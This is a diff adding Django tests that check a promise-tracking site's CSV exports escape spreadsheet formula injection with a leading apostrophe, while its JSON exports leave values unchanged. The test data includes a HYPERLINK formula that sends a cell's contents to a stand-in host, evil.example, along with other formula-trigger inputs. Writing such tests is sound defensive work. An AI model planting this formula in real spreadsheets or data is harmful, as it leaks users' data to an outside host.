@@ -11,7 +11,7 @@ from django.http import StreamingHttpResponse
 from django.test import TestCase
 from django.urls import reverse
 
-from promises.models import Indicator, Promise
+from promises.models import Indicator, Promise, StatusChange
 from promises.views import open_data as data
 
 from .helpers import (
@@ -136,6 +136,54 @@ class DownloadTests(TestCase):
         assert response["Content-Type"] == "text/csv; charset=utf-8"
         assert "attachment" in response["Content-Disposition"]
         assert self.client.post(url("promises", "csv")).status_code == 405
+
+
+# What an editor can type to make a spreadsheet run a formula, or hide one behind a tab or a carriage return.
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1", "-1+2", "@SUM(1)", "\tdengan tab", "\rdengan CR"]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+class SpreadsheetSafetyTests(TestCase):
+    def setUp(self):
+        indicator = make_indicator(slug="rumus")
+        for payload in FORMULAS:
+            make_source(headline=payload)
+            change = rate(make_promise(title=payload), reason=payload)
+            # the service strips a leading tab or CR from a reason; a row written another way may keep it
+            StatusChange.objects.filter(pk=change.pk).update(reason=payload)
+            make_reading(indicator, note=payload)
+        self.planted = {"sources": "headline", "changes": "reason", "readings": "note", "promises": "title"}
+
+    def download(self, table: str, fmt: str) -> str:
+        return "".join(streamed(self.client.get(url(table, fmt))))
+
+    def test_every_csv_cell_that_holds_a_formula_starts_with_an_apostrophe(self):
+        for table, column in self.planted.items():
+            _, rows = read_csv(self.download(table, "csv"))
+            cells = [row[column] for row in rows]
+            assert sorted(cell for cell in cells if cell.startswith("'")) == sorted("'" + p for p in FORMULAS), table
+        for table in data.TABLES:
+            _, rows = read_csv(self.download(table, "csv"))
+            dangerous = [cell for row in rows for cell in row.values() if cell.startswith(FORMULA_START)]
+            assert dangerous == [], table
+
+    def test_json_keeps_the_values_as_they_are(self):
+        for table, column in self.planted.items():
+            rows = json.loads(self.download(table, "json"))["rows"]
+            assert {row[column] for row in rows} >= set(FORMULAS), table
+            assert not any(str(row[column]).startswith("'") for row in rows), table
+
+    def test_only_text_is_escaped_and_the_rule_can_be_undone(self):
+        assert data._csv_cell(Decimal("-5")) == "-5" and data._csv_cell(-5) == "-5"  # numbers keep their sign
+        assert data._csv_cell(["-A", "B"]) == "'-A B"
+        for value in [*FORMULAS, "'sudah berapostrof", "''", "biasa", "", "- tanda hubung"]:
+            assert data.spreadsheet_value(data._csv_cell(value)) == value, value
+        assert data.spreadsheet_value("'biasa") == "'biasa"  # an apostrophe the rule did not add stays
+
+    def test_the_data_page_explains_the_apostrophe(self):
+        response = self.client.get(reverse("promises:data"))
+        assert "diberi apostrof (<code>'</code>) di depannya" in response.text
+        assert "<code>=</code>, <code>+</code>, <code>-</code>, <code>@</code>, tab, atau CR" in response.text
 
 
 class StreamingTests(TestCase):
